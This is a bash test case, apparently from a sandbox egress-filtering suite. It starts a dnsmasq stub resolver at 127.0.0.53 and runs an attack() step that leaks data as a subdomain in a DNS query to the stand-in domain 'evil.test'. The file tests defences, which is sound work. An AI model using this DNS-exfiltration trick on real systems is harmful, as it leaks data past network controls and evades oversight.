# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A resolver daemon of the host at 127.0.0.53'
origin='RESEARCH §2.45, §2.73'
reason='foreign_resolver|not_in_allowlist'
forms='output run'
prepare() {
    h c sh -c 'ss -lun | grep -q 127.0.0.53:53' && return
    start "$T/stub.log" c dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts --listen-address=127.0.0.53 --bind-interfaces --server=198.18.2.53 --user=root --pid-file=
    eventually 15 grep -q started "$T/stub.log"
}
attack() { tool send.py ask 127.0.0.53 "$1.evil.test"; }
